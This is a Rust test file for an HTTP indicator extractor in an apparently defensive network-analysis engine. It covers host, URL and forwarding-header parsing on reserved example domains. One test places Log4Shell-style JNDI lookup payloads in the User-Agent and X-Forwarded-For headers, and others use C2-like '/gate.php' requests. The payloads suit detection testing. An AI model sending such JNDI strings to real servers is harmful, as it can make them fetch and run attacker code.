pub(in crate::engine::packet) mod bodies;

use super::report::MAX_OTHER_HOSTS;
use crate::engine::indicator::{self, Protocol, Where};
use crate::engine::packet::tests::{Recorder, converse, decode, tcp};
use crate::engine::packet::{Counters, Fault};

fn seen(request: &[u8]) -> (Recorder, Counters) {
    decode(&[tcp(40000, 8080, 24, request)])
}

#[test]
fn every_reported_header() {
    let (recorder, counters) = seen(
        b"POST /a?b=c HTTP/1.1\r\nHOST:  Evil.Example:8080 \r\nReferer: http://r.example/\r\n\
          User-Agent: Mal/1.0\r\nX-Forwarded-For: 192.0.2.1, [2001:db8::1]:99 , unknown,198.51.100.1:5\r\n\
          Content-Length: 3\r\n\r\nGET /not HTTP/1.1\r\n\r\n",
    );
    let want = [
        (Where::HttpHost, "Evil.Example"),
        (Where::HttpUrl, "http://Evil.Example:8080/a?b=c"),
        (Where::HttpReferer, "http://r.example/"),
        (Where::HttpUserAgent, "Mal/1.0"),
        (Where::HttpXff, "192.0.2.1"),
        (Where::HttpXff, "2001:db8::1 99"),
        (Where::HttpXff, "198.51.100.1 5"),
    ];
    assert_eq!(recorder.seen, want.map(|(at, text)| (at, text.to_owned())));
    assert_eq!(counters.faults().count(), 0);
    let Some(Protocol::Http(http)) = &recorder.places[0].protocol else { panic!() };
    let want = indicator::Http {
        method: Some("POST".into()),
        hostname: Some("Evil.Example".into()),
        url: Some("/a?b=c".into()),
        user_agent: Some("Mal/1.0".into()),
        status: None,
    };
    assert_eq!(*http, want);
}

#[test]
fn heads_that_servers_read_differently() {
    let hosts = ["a.example"];
    for request in [
        "GET /x HTTP/1.1\r\n Host: a.example\r\nA: b\r\n\r\n",
        "\r\n\r\nGET /x HTTP/1.1\r\n\tHost: a.example\r\nA: b\r\n\r\n",
        "\n \nGET /x HTTP/1.1\n Host: a.example\n\n",
        "GET /x HTTP/1.1\r\n \r\nHost: a.example\r\n\r\n",
    ] {
        let (recorder, _) = seen(request.as_bytes());
        assert_eq!(recorder.at(Where::HttpHost), hosts, "{request}");
        assert_eq!(recorder.at(Where::HttpUrl), ["http://a.example/x"], "{request}");
    }
    // Servers differ in which of two hosts they use.
    let (recorder, _) =
        seen(b"GET /x HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\nHost: a.example\r\n\r\n");
    assert_eq!(recorder.at(Where::HttpHost), ["a.example", "b.example"]);
    assert_eq!(recorder.at(Where::HttpUrl), ["http://a.example/x", "http://b.example/x"]);
    let many: String = (0..50).map(|n| format!("Host: h{n}.example\r\n")).collect();
    let (recorder, _) = seen(format!("GET /x HTTP/1.1\r\n{many}\r\n").as_bytes());
    assert_eq!(recorder.at(Where::HttpUrl).len(), 1 + MAX_OTHER_HOSTS);
}

#[test]
fn escaped_urls_in_headers() {
    for value in [
        "to=http%3A%2F%2Fa.example%2Fx",
        "to=http%3a//a.example/x",
        "to=http:%2F%2Fa.example%2Fx",
        "to=http%253A%252F%252Fa.example%252Fx",
        r#"{"group":"g","endpoints":[{"url":"https:\/\/a.example\/x"}]}"#,
        r#"{"url":"https:\u002f\u002fa.example\u002fx"}"#,
        "see http://a.example/x",
    ] {
        let head = format!("GET / HTTP/1.1\r\nHost: b.example\r\nReport-To: {value}\r\n\r\n");
        let (recorder, _) = seen(head.as_bytes());
        let reported = recorder.texts.get(&Where::HttpHeader).map(Vec::as_slice);
        assert_eq!(reported, Some(value.as_bytes()), "{value}");
    }
    for value in ["50%2F%2Fx", r"C:\\/\/x", "a%3Ab", r"\/\/a.example"] {
        let head = format!("GET / HTTP/1.1\r\nHost: b.example\r\nCookie: {value}\r\n\r\n");
        assert!(seen(head.as_bytes()).0.texts.is_empty(), "{value}");
    }
}

#[test]
fn hosts_and_urls() {
    for (request, host, url) in [
        ("GET / HTTP/1.0\nHost: a.example\n\n", "a.example", "http://a.example/"),
        ("GET /x HTTP/1.1\r\nHost: 192.0.2.5:81\r\n\r\n", "192.0.2.5 81", "http://192.0.2.5:81/x"),
        ("GET /x HTTP/1.1\r\nHost: [2001:db8::2]\r\n\r\n", "2001:db8::2", "http://[2001:db8::2]/x"),
        ("GET /x HTTP/1.1\r\nHost: a.example:\r\n\r\n", "a.example", "http://a.example:/x"),
        (
            "GET http://b.example/y HTTP/1.1\r\nHost: a.example\r\n\r\n",
            "a.example",
            "http://b.example/y",
        ),
        ("OPTIONS * HTTP/1.1\r\nHost: a.example\r\n\r\n", "a.example", "http://a.example/"),
        ("GET /?u=http://z HTTP/1.1\r\nHost: a.b\r\n\r\n", "a.b", "http://a.b/?u=http://z"),
    ] {
        let (recorder, _) = seen(request.as_bytes());
        assert_eq!(recorder.at(Where::HttpHost), [host], "{request}");
        assert_eq!(recorder.at(Where::HttpUrl), [url], "{request}");
    }
    let (recorder, _) = seen(b"GET /bot HTTP/1.0\r\n\r\n");
    assert_eq!(recorder.seen, [(Where::HttpUrl, "http://198.51.100.2:8080/bot".to_owned())]);
    let (recorder, _) = seen(b"CONNECT c.example:443 HTTP/1.1\r\nHost: d.example\r\n\r\n");
    assert_eq!(recorder.at(Where::HttpHost), ["d.example", "c.example"]);
    assert!(recorder.at(Where::HttpUrl).is_empty());
    let (recorder, _) = seen(b"GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n");
    assert_eq!(recorder.at(Where::HttpHost), ["a.example", "b.example"]);
}

#[test]
fn pipelined_and_split_heads() {
    let (recorder, counters) = seen(
        b"GET /1 HTTP/1.1\r\nHost: a.example\r\n\r\nGET /2 HTTP/1.1\r\nHost: a.example\r\nAccep",
    );
    assert_eq!(recorder.at(Where::HttpUrl), ["http://a.example/1", "http://a.example/2"]);
    assert_eq!(counters.fault(Fault::SplitHttp), 1);
}

#[test]
fn what_is_no_request() {
    for payload in [
        "GET / RTSP/1.0\r\n\r\n",
        "GET /\r\n",
        "HELO mail.example HTTP\r\n",
        "get / HTTP/x.y\r\n\r\n",
        "GET /path and more\r\n\r\n",
        "get /path\r\n\r\n",
        "PRI * HTTP/1.1\r\n\r\n",
        "GETTINGSOMETHINGVERYLONG / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1",
        "GET  HTTP/1.1\r\n\r\n",
    ] {
        let (recorder, _) = seen(payload.as_bytes());
        assert!(recorder.seen.is_empty(), "{payload}");
    }
    let (recorder, counters) = seen(b"GET / HTTP/1.1\r\nHost: a\tb.example\r\n\r\n");
    assert!(recorder.at(Where::HttpHost).is_empty());
    assert_eq!(counters.fault(Fault::OddName), 1);
}

/// After the upgrade, segments may begin with anything: they are messages of users, and not HTTP.
#[test]
fn websockets_carry_no_http() {
    use crate::engine::packet::stream::tests::{Part, decode};
    let ask = b"GET /chat HTTP/1.1\r\nHost: a.example\r\nUpgrade: websocket\r\n\
        Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    let request = b"GET /x HTTP/1.1\r\nHost: b.example\r\n\r\n";
    let moved = b"HTTP/1.1 302 Found\r\nLocation: http://c.example/\r\n\r\n";
    for (protocol, hosts) in [("WebSocket", 1), ("something", 2)] {
        let answer = format!(
            "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nupgrade: {protocol}\r\n\r\n"
        );
        let mut parts = Part::handshake();
        parts.push(Part::data(true, 0, ask));
        parts.push(Part::data(false, 0, answer.as_bytes()));
        let mut sent = [ask.len(), answer.len()];
        // A frame in two segments, masked with zeros, and one that was not captured.
        for (to_server, data) in [
            (false, &b"\x81\x7e\x01\x00text"[..]),
            (true, b"\x81\xfe\x01\x00\0\0\0\0text"),
            (false, moved),
            (true, request),
        ] {
            let side = usize::from(!to_server);
            parts.push(Part::data(to_server, sent[side], data));
            sent[side] += data.len();
        }
        parts.push(Part::data(true, sent[0] + 100, request));
        parts.push(Part::end(true, sent[0] + 100 + request.len()));
        let (recorder, _) = decode(8080, &parts);
        let reported = recorder.at(Where::HttpHost);
        assert_eq!(reported[..hosts.min(reported.len())], ["a.example", "b.example"][..hosts]);
        assert_eq!(reported.len() > 1, hosts > 1, "{protocol}: {reported:?}");
        let urls = recorder.at(Where::HttpUrl);
        assert_eq!(urls.contains(&"http://c.example/"), hosts > 1, "{protocol}: {urls:?}");
    }
}

/// Different spellings of this request that clients send and servers accept.
#[test]
fn requests_as_servers_take_them() {
    for request in [
        "\r\nGET /gate.php HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "\n\nGET /gate.php HTTP/1.1\nHost: a.example\n\n",
        "\r\n \r\n\tGET /gate.php HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "  GET /gate.php HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "GET   /gate.php \t HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "GET\t/gate.php\tHTTP/1.1 \r\nHost: a.example\r\n\r\n",
        "get /gate.php http/1.1\r\nHost: a.example\r\n\r\n",
        "X-Odd_1 /gate.php HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "GET /gate.php HTTP/9.9\r\nHost: a.example\r\n\r\n",
        "GET /gate.php HTTP/1.1\r\nHost:\r\n a.example\r\n\r\n",
        "GET /gate.php HTTP/1.1\nHost:\n\ta.example\n \n\n",
        "GET /gate.php HTTP/1.1\r\nX: y\r\n\tz\r\nHost: a.example\r\n \r\n\r\n",
        "GET /gate.php HTTP/1.1\r\n Host: a.example\r\n\r\n",
        "GET /gate.php HTTP/1.1\r\nHost : a.example\r\n\r\n",
        "GET /gate.php HTTP/1.1\r\nno header\r\nhOST:\ta.example \t\r\n\r\n",
        "GET /gate.php\r\nHost: a.example\r\n\r\n",
        "GET HTTP://A.example/gate.php HTTP/1.1\r\nHost: a.example\r\n\r\n",
    ] {
        for unit in [1, 2, 7, request.len()] {
            let (recorder, _) = converse(8080, request.as_bytes(), b"", unit);
            assert_eq!(recorder.at(Where::HttpHost), ["a.example"], "{unit} {request}");
            let urls = recorder.at(Where::HttpUrl);
            let is_url = |url: &str| url.eq_ignore_ascii_case("http://a.example/gate.php");
            assert!(urls.len() == 1 && is_url(urls[0]), "{unit} {request}: {urls:?}");
            assert!(recorder.at(Where::UrlHost).is_empty(), "{request}");
        }
    }
    for (request, want) in [
        ("GET /gate.php\r\n", "http://198.51.100.2:8080/gate.php"),
        ("GET http://a.example/gate.php\n", "http://a.example/gate.php"),
    ] {
        let (recorder, _) = seen(request.as_bytes());
        assert_eq!(recorder.at(Where::HttpUrl), [want]);
    }
}

#[test]
fn answers_as_clients_take_them() {
    for answer in [
        "HTTP/1.1 302\r\nLocation: http://a.example/x\r\n\r\n",
        "\r\nHTTP/1.1 302 Found\r\nLocation: http://a.example/x\r\n\r\n",
        "HTTP/1.1  302\tFound\nLocation:\n http://a.example/x\n\n",
        "http/1.1 302 Found\r\nlocation : http://a.example/x\r\n\r\n",
        "HTTP/2 302\r\nLocation: http://a.example/x\r\n\r\n",
        "HTTP/1.1 100\r\n\r\nHTTP/1.1 302 Moved\r\nLocation: http://a.example/x\r\n\r\n",
        "HTTP/1.1 302 Found\r\nLocation: http://a.exam\r\nX-Cut: y",
    ] {
        let want = if answer.contains("X-Cut") { "http://a.exam" } else { "http://a.example/x" };
        for unit in [1, 3, answer.len()] {
            let (recorder, _) = converse(8080, b"", answer.as_bytes(), unit);
            assert_eq!(recorder.at(Where::HttpUrl), [want], "{unit} {answer}");
        }
    }
}

#[test]
fn what_is_none_between_requests() {
    let ok = "GET /1 HTTP/1.1\r\nHost: a.example\r\n\r\n";
    for garbage in ["garbage\r\n", "garbage\r\nmore of: it\r\n\r\n", "\0\u{1}\u{2}\n"] {
        let stream = [ok, garbage, &ok.replace("a.", "b.")].concat();
        let (recorder, _) = seen(stream.as_bytes());
        assert_eq!(recorder.at(Where::HttpHost), ["a.example", "b.example"], "{garbage}");
    }
}

/// Each is reported once, however many headers contain it.
#[test]
fn who_a_proxy_speaks_for() {
    let v6 = "2001:db8::1";
    for (headers, want) in [
        ("Forwarded: for=192.0.2.7;proto=https", &["192.0.2.7"][..]),
        ("forwarded: For=\"[2001:db8::1]:99\" ;by=192.0.2.8", &["2001:db8::1 99", "192.0.2.8"]),
        ("Forwarded: for=_hidden, for=unknown, for=\"a,b;c\", for=192.0.2.7", &["192.0.2.7"]),
        (
            "Forwarded: for=192.0.2.7, for=192.0.2.8\r\nForwarded: for=192.0.2.9",
            &["192.0.2.7", "192.0.2.8", "192.0.2.9"],
        ),
        ("Forwarded: host=b.example:8080;for=192.0.2.7:1", &["192.0.2.7 1", "b.example"]),
        ("Forwarded: host=\"A.example:80\"", &[]),
        ("X-Real-IP: 192.0.2.7", &["192.0.2.7"]),
        ("X-REAL-IP: 192.0.2.7\r\nX-Forwarded-For: 192.0.2.7, 192.0.2.7:5", &["192.0.2.7 5"]),
        ("True-Client-IP: 2001:db8::1", &[v6]),
        ("CF-Connecting-IP: 2001:db8::1\r\nCF-Connecting-IPv6: 2001:DB8:0::1", &[v6]),
        ("X-Client-IP: 192.0.2.7\r\nX-Cluster-Client-IP: 192.0.2.8", &["192.0.2.7", "192.0.2.8"]),
        ("Fastly-Client-IP: 192.0.2.7", &["192.0.2.7"]),
        ("X-Original-Forwarded-For: 192.0.2.7 ,\t192.0.2.8", &["192.0.2.7", "192.0.2.8"]),
        ("X-Originating-IP: [192.0.2.7]", &["192.0.2.7"]),
        ("Client-IP: \"192.0.2.7\"", &["192.0.2.7"]),
        ("X-Forwarded-Host: b.example, A.Example:80, 192.0.2.7:81", &["192.0.2.7 81", "b.example"]),
        ("X-Forwarded-Server: b.example", &["b.example"]),
        (
            "Via: 1.1 b.example:8080 (squid/3.5), HTTP/1.1 192.0.2.7, 1.0 varnish",
            &["192.0.2.7", "b.example"],
        ),
        ("X-Forwarded-For: unknown, -, , 1.2.3", &[]),
        ("X-Forwarded-Port: 192.0.2.7", &[]),
    ] {
        let request = format!("GET / HTTP/1.1\r\nHost: a.example\r\n{headers}\r\n\r\n");
        let (recorder, _) = seen(request.as_bytes());
        assert_eq!(recorder.at(Where::HttpXff), want, "{headers}");
    }
}

#[test]
fn headers_with_urls_and_addresses_of_mail() {
    let request = b"GET /a HTTP/1.1\r\nHost: a.example\r\n\
        User-Agent: ${jndi:ldap://b.example:1389/a}\r\nAccept: */*\r\nOrigin: https://c.example\r\n\
        From: who@d.example\r\nCookie: a=b\r\nX-Forwarded-For: ${jndi:dns://e.example}\r\n\
        Referer: http://f.example/?u=http://g.example\r\nX-Api: h.example\r\n\r\n";
    let (recorder, _) = seen(request);
    assert_eq!(recorder.text_at(Where::HttpUserAgent), "${jndi:ldap://b.example:1389/a}");
    assert_eq!(recorder.text_at(Where::HttpHeader), "https://c.examplewho@d.example");
    assert_eq!(recorder.text_at(Where::HttpXff), "${jndi:dns://e.example}");
    assert_eq!(recorder.text_at(Where::HttpReferer), "http://g.example");
    let answer = b"HTTP/1.1 200 OK\r\nServer: x\r\nSet-Cookie: a=b; Path=/; Domain=.a.example\r\n\
        Alt-Svc: h3=\"b.example:443\"; ma=1\r\nAlt-Svc: h3=\":443\"\r\nContent-Length: 0\r\n\
        Report-To: {\"endpoints\":[{\"url\":\"https:\\/\\/x\"},{\"url\":\"https://c.example/r\"}]}\r\n\
        Link: </style>; rel=x\r\nContent-Security-Policy: img-src d.example\r\n\r\n";
    let (recorder, _) = decode(&[tcp(8080, 40_000, 24, answer)]);
    assert_eq!(recorder.at(Where::HttpHeader), ["a.example"]);
    let text = recorder.text_at(Where::HttpHeader);
    for name in ["b.example:443", "https://c.example/r", "img-src d.example"] {
        assert!(text.contains(name), "{text}");
    }
    assert!(!text.contains("style") && !text.contains("\":443"), "{text}");
}

#[test]
fn the_host_of_every_url() {
    for (request, want) in [
        ("GET http://b.example/ HTTP/1.0\r\n\r\n", "b.example"),
        ("GET http://b.example/ HTTP/1.0\r\nHost: B.Example.\r\n\r\n", ""),
        ("GET http://u:p@b.example:81/ HTTP/1.0\r\nHost: a.example\r\n\r\n", "b.example"),
        ("GET hTTps://[2001:db8::7]:81/ HTTP/1.0\r\nHost: a.example\r\n\r\n", "2001:db8::7 81"),
        ("GET http://b%2Eexample./ HTTP/1.0\r\nHost: a.example\r\n\r\n", "b.example"),
        ("GET /x HTTP/1.0\r\nHost: a.example\r\n\r\n", ""),
    ] {
        let (recorder, _) = seen(request.as_bytes());
        assert_eq!(recorder.at(Where::UrlHost).concat(), want, "{request}");
    }
    for (location, url, host) in [
        ("https://www.B.example/x", "https://www.B.example/x", "www.b.example"),
        ("//b.example/x", "http://b.example/x", "b.example"),
        ("/\\b.example", "http://b.example", "b.example"),
        ("/x", "", ""),
        ("///x", "", ""),
    ] {
        let answer = format!("HTTP/1.1 302 Found\r\nLocation: {location}\r\n\r\n");
        let (recorder, _) = decode(&[tcp(8080, 40_000, 24, answer.as_bytes())]);
        assert_eq!(recorder.at(Where::HttpUrl).concat(), url, "{location}");
        assert_eq!(recorder.at(Where::UrlHost).concat(), host, "{location}");
    }
    let (recorder, _) =
        seen(b"GET /to?u=http%3A%2F%2Fb.example HTTP/1.1\r\nHost: a.example\r\n\r\n");
    assert_eq!(recorder.text_at(Where::HttpUrl), "http%3A%2F%2Fb.example");
    let (recorder, _) = seen(b"connect u@b.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n");
    assert_eq!(recorder.at(Where::HttpHost), ["a.example", "b.example"]);
}
